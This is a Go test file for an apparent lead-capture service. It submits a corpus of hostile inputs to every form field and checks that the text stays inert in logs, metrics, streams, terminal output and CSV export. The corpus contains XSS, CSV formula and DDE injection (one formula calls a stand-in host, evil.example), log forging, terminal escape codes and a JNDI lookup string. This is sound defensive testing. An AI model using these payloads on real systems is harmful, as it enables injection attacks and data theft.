package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode"

	"github.com/leadgate/leadgate/cmd/leadgate/console"
	"github.com/leadgate/leadgate/lead"
)

// corpus is what visitors type who mean harm: each is put into every field.
var corpus = []string{
	"<script>alert('zzsecret')</script>",
	`"><img src=x onerror=alert('zzsecret')>`,
	"=HYPERLINK(\"http://evil.example/?zzsecret\")",
	"@SUM(1+1)*cmd|' /C calc'!A0 zzsecret",
	"zzsecret\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}",
	"zzsecret\x1b[2J\x1b]0;owned\x07",
	"zzsecret\u009b31m\u202egnp\u2066",
	"zzsecret\x00\x7f",
	"<!channel> <@U0ADMIN> zzsecret",
	"${jndi:ldap://zzsecret} {{zzsecret}} %s%n",
	"data: zzsecret\n\nevent: lead\ndata: {}",
}

// Whatever a visitor types stays data: it is in the API's JSON and in the CSV as
// text, and in no log line, metric, stream or refusal.
func TestProgram_Corpus(t *testing.T) {
	t.Parallel()
	slack := newFakeSlack(t)
	p := newProgram(t, append(slack.env(), "LEADGATE_LOG=debug")...)
	p.start()
	news := p.watch("")
	var heard []lead.News
	for i, bad := range corpus {
		form := map[string]string{"email": fmt.Sprintf("zzperson%d@works.example", i)}
		for _, field := range []string{"name", "company", "message", "job title", "page_url", "utm_source", "phone", "topic", "anything " + bad} {
			form[field] = bad
		}
		body, err := json.Marshal(form)
		if err != nil {
			t.Fatal(err)
		}
		code, a := p.post("/in/demo-request", "application/json", string(body), "User-Agent", "zzsecret", "Referer", "https://zzsecret.example/")
		if code != http.StatusAccepted {
			t.Fatalf("%q is refused: %d %+v", bad, code, a)
		}
		p.settled(a.ID)
		heard = append(heard, hears(t, news, "the lead", func(n lead.News) bool { return n.Kind == lead.LeadNews && n.TouchID == a.ID }))
	}
	p.post("/in/"+url.PathEscape("zzsecret\n<b>"), "application/json", `{"name":"zzsecret"}`)
	p.post("/in/contact", "application/json", `{"name":"zzsecret`)
	p.post("/in/contact", "text/zzsecret", `zzsecret`)

	for _, path := range []string{"/leads?q=zzsecret%1b", "/leads?zzsecret%0a=1", "/leads/zzsecret", "/touches?cursor=zzsecret", "/reports/speed?by=%3Cb%3Ezzsecret", "/queues/zzsecret/tasks"} {
		code, answer := p.api(http.MethodGet, path, "")
		said := string(answer)
		if code < 400 || strings.ContainsFunc(said, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) || strings.Contains(said, "<b>") {
			t.Errorf("GET %s = %d %q, want a refusal in plain words", path, code, said)
		}
	}

	if n, err := json.Marshal(heard); err != nil || strings.Contains(string(n), "zz") {
		t.Errorf("the stream carries what visitors typed: %s", n)
	}
	if said := p.metrics(); strings.Contains(said, "zz") {
		t.Error("the metrics carry what visitors typed")
	}
	_, answer := p.api(http.MethodGet, "/leads.csv", "")
	sheet := string(answer)
	rows, err := csv.NewReader(strings.NewReader(sheet)).ReadAll()
	if err != nil {
		t.Errorf("leads.csv: %v", err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell = strings.TrimLeft(cell, ` "`); cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("leads.csv has the cell %q, which begins a formula", cell)
			}
		}
	}
	for line := range strings.Lines(sheet) {
		if strings.ContainsFunc(strings.TrimRight(line, "\r\n"), unicode.IsControl) {
			t.Errorf("leads.csv has a control character in %q", line)
		}
	}
	if strings.Count(sheet, "\r\n") != len(corpus)+1 {
		t.Errorf("leads.csv has %d lines, want one for each of %d leads", strings.Count(sheet, "\r\n"), len(corpus))
	}
	for line := range strings.Lines(p.out.String()) {
		if strings.Contains(line, "zz") || strings.Contains(line, "forged") {
			t.Errorf("a log line carries what a visitor typed: %s", line)
		}
		if !json.Valid([]byte(line)) {
			t.Errorf("a log line is no JSON: %q", line)
		}
	}

	// The same leads on a terminal.
	for _, l := range all[lead.Lead](p, "/leads") {
		for _, touchID := range l.Touches {
			touch, _ := p.touch(touchID)
			shown := console.TouchLine(&touch, &l, false)
			if strings.ContainsFunc(shown, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf)) }) {
				t.Errorf("the console shows %q", shown)
			}
		}
	}
	code, said := p.run("explain", heard[5].LeadID)
	if code != 0 || strings.ContainsAny(said, "\x1b\x07") {
		t.Errorf("explain = %d %q", code, said)
	}
}
